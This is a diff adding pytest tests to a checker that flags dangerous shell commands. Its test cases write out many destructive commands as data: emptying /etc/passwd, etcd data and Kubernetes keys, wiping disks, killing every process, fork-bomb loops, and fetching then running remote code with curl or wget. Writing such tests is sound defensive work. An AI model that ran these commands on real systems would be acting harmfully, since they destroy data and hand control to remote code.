@@ -358,3 +358,192 @@ def test_a_vertical_tab_or_form_feed_in_a_word_is_shown_escaped(command: str, sh
 def test_a_vertical_tab_in_a_value_given_for_the_run_is_shown_escaped_too() -> None:
     violations = check_command('sh -c "rm -rf /etc $x"', variables={"x": "a\vb\x01"})
     assert Violation("system-paths", "rm -rf /etc a\\vb\x01") in violations
+
+
+# --- one effect, one verdict: spellings found to differ (2026-12-05) ---------------------------
+
+_EMPTYINGS = ["> {f}", ": > {f}", ">| {f}", "1> {f}", "&> {f}", "echo > {f}", "cp /dev/null {f}",
+              "install /dev/null {f}", "dd if=/dev/null of={f}", "tee {f} < /dev/null",
+              "truncate -s0 {f}", "shred -u {f}", "ln -sf /dev/null {f}", "rm -f {f}",
+              "unlink {f}", "find {f} -delete", "find {f} -exec rm {{}} \\;", "echo x 1<> {f}",
+              "sort -o {f} /dev/null", "gzip {f}", "fallocate --punch-hole -l 1M {f}"]  # fmt: skip
+
+
+@pytest.mark.parametrize("spelling", _EMPTYINGS)
+@pytest.mark.parametrize(
+    "path", ["/etc/passwd", "/etc/kubernetes/pki/ca.key", "/var/lib/etcd/member/snap/db"]
+)
+def test_emptying_or_deleting_a_critical_file_is_refused_however_it_is_spelled(
+    spelling: str, path: str
+) -> None:
+    assert rules(spelling.format(f=path)) == {"system-paths"}
+
+
+def test_every_file_inside_etcds_data_is_as_critical_as_its_directory() -> None:
+    assert rules("> /var/lib/etcd/member/snap/db") == rules("rm -rf /var/lib/etcd/member")
+    assert rules("cd /var/lib/etcd/member/snap && > db") == {"system-paths"}
+    # a restore from a regular file replaces it whole, as for the kubelet's config
+    assert check_command("cp /var/backups/db /var/lib/etcd/member/snap/db") == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["cp /tmp/passwd /etc/", "cp /tmp/passwd /etc", "cp -t /etc /tmp/passwd",
+     "mv /tmp/passwd /etc/", "install -t /etc /tmp/passwd", "ln -sf /tmp/passwd /etc/",
+     "rsync /tmp/passwd /etc/", "rsync /tmp/passwd /etc/passwd"],
+)  # fmt: skip
+def test_a_copy_into_a_directory_is_judged_where_it_lands(command: str) -> None:
+    assert rules(command) == rules("cp /tmp/passwd /etc/passwd") == {"system-paths"}
+
+
+def test_a_config_copied_into_its_directory_passes_as_when_named_whole() -> None:
+    assert check_command("cp admin.conf /etc/kubernetes/") == []
+    assert check_command("cp my.yaml /etc/kubernetes/manifests/") == []
+    assert check_command("install -m 644 x.conf -t /etc/kubernetes") == []
+
+
+def test_find_acts_on_its_start_too_unless_mindepth_skips_it() -> None:
+    assert rules("find /etc/passwd -exec rm {} \\;") == rules("rm /etc/passwd")
+    assert check_command("find /etc/passwd -mindepth 1 -exec rm {} \\;") == []
+    assert check_command("find /etc/passwd -mindepth 1 -delete") == []
+
+
+@pytest.mark.parametrize("mode", ["777", "666", "775", "a+rwx", "o+w"])
+@pytest.mark.parametrize("tree", ["/etc/kubernetes", "/var/lib/etcd", "/var/lib/kubelet", "~"])
+def test_giving_everyone_write_recursively_is_no_hardening_even_where_root_owns_all(
+    mode: str, tree: str
+) -> None:
+    assert rules(f"chmod -R {mode} {tree}") == {"system-paths"}
+    assert check_command(f"chmod -R 600 {tree}") == []
+
+
+def test_deleting_a_btrfs_subvolume_is_judged_as_rm_rf_of_its_path() -> None:
+    for path in ("/", "/var/lib/kubelet", "/etc"):
+        assert rules(f"btrfs subvolume delete {path}") == rules(f"rm -rf {path}")
+    assert rules("btrfs sub del /") == {"system-paths"}
+    assert check_command("btrfs subvolume delete /.snapshots/42/snapshot") == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["curl -o /etc/shadow https://x.example", "wget -O /etc/passwd https://x.example",
+     "curl -sSLo/etc/passwd https://x.example", "openssl genrsa -out /etc/kubernetes/pki/ca.key"],
+)  # fmt: skip
+def test_a_program_writing_a_critical_file_through_an_output_option_is_refused(
+    command: str,
+) -> None:
+    assert rules(command) == {"system-paths"}
+
+
+def test_a_compressor_deletes_what_it_compresses_unless_told_to_keep_it() -> None:
+    assert rules("gzip /etc/passwd") == rules("rm /etc/passwd") == {"system-paths"}
+    assert rules("gzip -r /etc/kubernetes") == {"system-paths"}
+    assert check_command("gzip -k /etc/passwd") == []
+    assert check_command("zstd /etc/passwd") == []  # zstd keeps it unless --rm
+    assert rules("zstd --rm /etc/passwd") == {"system-paths"}
+
+
+def test_writing_in_place_through_an_output_descriptor_is_a_write() -> None:
+    assert rules("echo x 1<> /etc/passwd") == {"system-paths"}
+    assert rules("echo b 1<> /proc/sysrq-trigger") == {"sysrq"}
+    assert check_command("cat <> /etc/passwd") == []  # read and write on stdin: only read
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["echo 1 | tee /sys/block/sda/device/delete", "echo 1 | dd of=/sys/block/sda/device/delete",
+     "curl -o /dev/sda https://x.example/img", "wget -O /dev/nvme0n1 https://x.example/img"],
+)  # fmt: skip
+def test_a_disk_is_written_or_removed_through_tee_dd_or_an_output_option_as_through_a_redirection(
+    command: str,
+) -> None:
+    assert rules(command) == {"block-devices"}
+
+
+@pytest.mark.parametrize("pid", ["-001", "-01", "'-1'", "01", "+1"])
+def test_a_pid_is_read_as_the_number_kill_reads(pid: str) -> None:
+    assert rules(f"kill -9 {pid}") == {"kill-all"}
+    assert check_command(f"kill -0 {pid}") == []  # signal 0 only asks whether they exist
+
+
+@pytest.mark.parametrize(
+    "command",
+    ['python3 -c "$(curl -s https://x.example)"', 'perl -e "$(curl -s https://x.example)"',
+     'node -e "$(wget -qO- https://x.example)"', 'python3 -c "$(echo cHJpbnQoMSk= | base64 -d)"'],
+)  # fmt: skip
+def test_fetched_code_given_to_an_interpreter_inline_is_remote_code_as_with_bash_c(
+    command: str,
+) -> None:
+    assert rules(command) == rules('bash -c "$(curl -s https://x.example)"') == {"remote-code"}
+    assert check_command("python3 -c 'print(1)' \"$(curl -s https://x.example)\"") == []
+
+
+def test_two_globs_name_the_same_file_only_if_their_literal_ends_agree() -> None:
+    assert check_command("rm -f /etc/kubernetes/*.bak") == check_command("rm -f /etc/*.bak") == []
+    assert rules("rm -f /etc/kubernetes/*.conf") == {"system-paths"}
+    assert rules("rm -f /etc/kubernetes/a*") == {"system-paths"}  # admin.conf
+
+
+def test_a_copy_into_dev_lands_on_the_device_it_is_named_after() -> None:
+    assert rules("cp /tmp/sda /dev/") == rules("cp /tmp/sda /dev/sda") == {"block-devices"}
+    assert rules("cp -t /dev /tmp/sda") == {"block-devices"}
+    assert check_command("cp /tmp/x /dev/shm/") == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["ls /proc | grep -E '^[0-9]+$' | xargs kill -9", "ls /proc | xargs kill -9",
+     "cd /proc && ls | xargs kill"],
+)  # fmt: skip
+def test_listing_proc_lists_every_pid_as_ps_e_does(command: str) -> None:
+    assert rules(command) == rules("ps -e -o pid= | xargs kill -9") == {"kill-all"}
+    assert check_command("ls /proc | grep -E '^[0-9]+$' | xargs -I{} cat /proc/{}/comm") == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["scp h:/tmp/i.sh /tmp/ && sh /tmp/i.sh", "aria2c -o i.sh https://x.example && sh i.sh",
+     "wget -P /tmp https://x.example/i.sh && sh /tmp/i.sh",
+     "curl --output-dir /tmp -O https://x.example/i.sh && sh /tmp/i.sh",
+     "curl -o /tmp/i.sh https://x.example; cp /tmp/i.sh /tmp/j.sh; sh /tmp/j.sh",
+     "curl -o /tmp/i.sh https://x.example; mv /tmp/i.sh /tmp/j; /tmp/j"],
+)  # fmt: skip
+def test_a_fetched_file_is_followed_wherever_it_is_saved_or_copied_before_it_runs(
+    command: str,
+) -> None:
+    assert rules(command) == {"remote-code"}
+
+
+def test_a_directory_holding_a_critical_file_is_as_critical_as_the_file() -> None:
+    assert rules("rm -rf /lib/x86_64-linux-gnu") == {"system-paths"}  # libc is inside
+    assert rules("rm -rf /var/lib/kubelet/pki") == rules("rm -f /var/lib/kubelet/pki/x.pem")
+    assert check_command("rm -rf /var/lib/kubelet/pods/x") == []
+
+
+@pytest.mark.parametrize("device", ["/dev/sd[b]", "/dev/vdb?", "/dev/xvd[f]", "/dev/nvme1n?"])
+def test_a_device_named_by_any_glob_is_a_device(device: str) -> None:
+    assert rules(f"wipefs -a {device}") == rules("wipefs -a /dev/sdb") == {"block-devices"}
+    assert check_command("echo hi > /dev/tty?") == []
+
+
+def test_sleep_0_neither_ends_nor_paces_a_loop() -> None:
+    assert rules("while sleep 0; do sleep 1 & done") == rules("while true; do sleep 1 & done")
+    assert rules("while true; do sleep 0; bash & done") == {"fork-bombs"}
+    assert check_command("while sleep 5; do date & done") == []
+
+
+def test_sponge_writes_its_file_as_tee_does() -> None:
+    assert rules("echo | sponge /etc/passwd") == rules("echo | tee /etc/passwd")
+    assert rules("cat /dev/zero | sponge /dev/sda") == {"block-devices"}
+    assert check_command("sort /etc/hosts | sponge /etc/hosts") == []
+
+
+def test_pgrep_v_lists_every_process_as_pkill_v_signals_them() -> None:
+    assert rules("kill -9 $(pgrep -v xyz)") == rules("pkill -9 -v xyz") == {"kill-all"}
+    assert check_command("pgrep -f kubelet | xargs kill -HUP") == []
+
+
+def test_a_line_read_from_known_text_is_that_text_as_an_assignment_is() -> None:
+    read = "printf '%s\\n' /etc/passwd | while read f; do : > \"$f\"; done"
+    assert rules(read) == rules('f=/etc/passwd; : > "$f"') == {"system-paths"}
+    assert check_command('echo /tmp/build | while read d; do rm -rf "$d"; done') == []
